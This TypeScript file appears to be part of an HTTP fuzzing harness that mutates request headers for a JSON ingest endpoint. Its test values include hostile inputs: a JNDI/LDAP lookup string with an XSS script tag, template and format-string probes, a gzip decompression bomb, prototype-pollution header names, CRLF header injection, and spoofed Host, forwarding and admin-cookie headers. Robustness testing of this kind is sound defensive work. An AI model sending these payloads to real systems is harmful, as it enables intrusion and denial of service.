import { brotliCompressSync, deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import type { SeededRandom } from '../../random.ts';
import { type Apply, add, change, dropHeader, mutations, setHeader, utf8 } from '../draft.ts';

const set =
  (name: string, value: string): Apply =>
  (draft) =>
    setHeader(draft, name, value);

/** A line that is not a valid header. */
const line =
  (text: string): Apply =>
  (draft, random) => {
    draft.headers.splice(random.below(draft.headers.length + 1), 0, {
      name: text,
      value: '',
    });
  };

const anyCase = (text: string, random: SeededRandom) =>
  [...text].map((each) => (random.chance(0.5) ? each.toUpperCase() : each.toLowerCase())).join('');

/** Eleven megabytes in eleven kilobytes. */
const BOMB = gzipSync(Buffer.alloc(11 * 1024 * 1024));

const encoded = (coding: string, encode: (body: Buffer) => Buffer) =>
  change((draft) => ({
    headers: [...draft.headers, { name: 'Content-Encoding', value: coding }],
    body: encode(draft.body),
  }));

const HARMLESS: Apply[] = [
  change((draft, random) => ({
    headers: draft.headers.map(({ name, value }) => ({ name: anyCase(name, random), value })),
  })),
  (draft) => {
    draft.headers.reverse();
  },
  change((draft) => ({
    headers: draft.headers.map(({ name, value }) => ({
      name,
      value: (made) => ` \t${typeof value === 'string' ? value : value(made)}\t  `,
    })),
  })),
  (draft, random) => {
    for (let count = random.between(1, 700); count > 0; count -= 1) {
      draft.headers.push({ name: `x-${random.text(4)}`, value: random.text(random.below(8)) });
    }
  },
  add('X-Empty', ''),
  add('X-Same', 'one', 'two', 'two'),
  add('__proto__', 'polluted'),
  add('constructor', 'polluted'),
  add('hasOwnProperty', '1'),
  add('Cookie', 'session=1; admin=true'),
  add('X-Forwarded-For', '203.0.113.9', '198.51.100.7, 127.0.0.1'),
  add('X-Forwarded-Host', 'evil.example.com'),
  add('X-HTTP-Method-Override', 'GET'),
  add('X-Original-URL', '/api/ingest/x'),
  add('X-Amzn-RequestId', 'mine'),
  add('Accept', 'text/html;q=0, application/xml', '*/*'),
  add('Accept-Encoding', 'gzip, br'),
  add('Range', 'bytes=0-1'),
  add('If-None-Match', '*'),
  add('Origin', 'https://evil.example.com'),
  add('X-Odd', utf8('é漢😀\u202e')),
  add('X-Odd', '\u00ff\u0080\u00a0'),
  set('User-Agent', ''),
  set('User-Agent', 'a'.repeat(6000)),
  set('User-Agent', '$'.concat('{jndi:ldap://example.com/a} <script>alert(1)</script> %s%n {{7*7}}')),
  set('User-Agent', '\u00e9\u00ff\u0080'),
  (draft) => dropHeader(draft, 'User-Agent'),
  add('Expect', '100-continue'),
  add('Connection', 'close'),
  add('Connection', 'keep-alive, X-Odd, Authorization'),
  add('Keep-Alive', 'timeout=0'),
  add('TE', 'trailers'),
  add('Upgrade', 'h2c'),
  add('Content-Encoding', 'identity'),
  add('Content-Encoding', '', 'IDENTITY', ' identity, identity'),
  add('Content-Length-Extra', '5'),
  add('Content-MD5', 'nonsense'),
  set('Content-Type', 'application/json; charset=utf-8'),
  set('Content-Type', 'APPLICATION/JSON'),
  set('Content-Type', 'application/json;charset="utf-16";;;=;'),
  set('Content-Type', ' application/json '),
  set('Content-Type', `application/json; x=${'y'.repeat(5000)}`),
];

const FATAL: Apply[] = [
  ...[
    ...['', 'text/plain', 'text/json', 'application/vnd.api+json', 'application/problem+json', '*/*', 'json'],
    ...['application/json, application/json', 'application/jsonp', 'application/x-www-form-urlencoded'],
    ...['multipart/form-data; boundary=x', 'application/json/', 'application /json', '"application/json"'],
    ...['; application/json', utf8('application/jsоn'), '\u00ff'],
  ].map((type) => set('Content-Type', type)),
  (draft) => dropHeader(draft, 'Content-Type'),
  add('Content-Type', 'application/json'),
  add('CONTENT-TYPE', 'text/plain'),
  (draft) => dropHeader(draft, 'Host'),
  ...[
    'gzip, identity',
    'identity, br',
    ...'gzip deflate br zstd compress x-gzip chunked \u00ff'.split(' '),
  ].map((coding) => add('Content-Encoding', coding)),
  add('Content-Encoding', 'identity', 'gzip'),
  encoded('gzip', gzipSync),
  encoded('deflate', deflateSync),
  encoded('br', brotliCompressSync),
  encoded('deflate', deflateRawSync),
  encoded('gzip, gzip', (body) => gzipSync(gzipSync(body))),
  (draft, random, world) => encoded(random.pick(['gzip', ' GZip ']), () => BOMB)(draft, random, world),
  encoded('gzip', (body) => gzipSync(body).subarray(0, -3)),
  (draft, random) => {
    draft.headers.push({ name: 'X-Long', value: 'x'.repeat(random.between(10_240, 60_000)) });
  },
  add('X-Huge', 'x'.repeat(70_000)),
  (draft, random) => {
    for (let count = 40; count > 0; count -= 1)
      draft.headers.push({ name: 'X-Many', value: random.text(300) });
  },
  ...[
    'X-Folded: a\r\n b',
    'X-Null: a\0b',
    'X-Return: a\rb',
    'X Space',
    'no colon\r\nX',
    '(bad)',
    'X\u00e9',
    '\0',
  ].map(line),
  line(''),
  line('X-Feed: a\nX-Feed: b\n\nX'),
];

const OPEN: Apply[] = [
  add('Expect', 'the-unexpected'),
  add('Host', 'second.example.com'),
  set('Host', ''),
  set('Host', 'LOCALHOST:99999'),
  set('Host', '\u00ff:99999'),
  add('Upgrade', 'websocket'),
  (...given) => {
    add('Connection', 'upgrade')(...given);
    add('Upgrade', 'websocket')(...given);
  },
  add('Connection', 'close, close'),
  change(() => ({ version: 'HTTP/1.0' })),
  ...['HTTP/2.0', 'HTTP/0.9', 'HTTP/1.2', 'HTTP/1.1.1', 'http/1.1', 'HTTP/', '', 'HTCPCP/1.0'].map(
    (version) => change(() => ({ version })),
  ),
];

export const HEADERS = [
  ...mutations('headers', 'harmless', HARMLESS),
  ...mutations('headers', 'fatal', FATAL),
  ...mutations('headers', 'open', OPEN),
];
